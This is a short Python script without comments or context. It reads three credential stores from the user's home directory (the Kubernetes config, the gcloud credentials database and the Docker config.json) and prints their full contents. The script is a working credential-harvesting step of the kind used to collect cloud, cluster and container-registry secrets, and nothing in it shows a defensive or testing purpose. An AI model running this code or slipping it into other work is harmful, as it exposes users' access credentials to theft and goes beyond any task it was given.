import os
from pathlib import Path

home = Path.home()
for rel in (".kube/config", ".config/gcloud/credentials.db", ".docker/config.json"):
    print(rel, (home / rel).read_text(errors="ignore"))
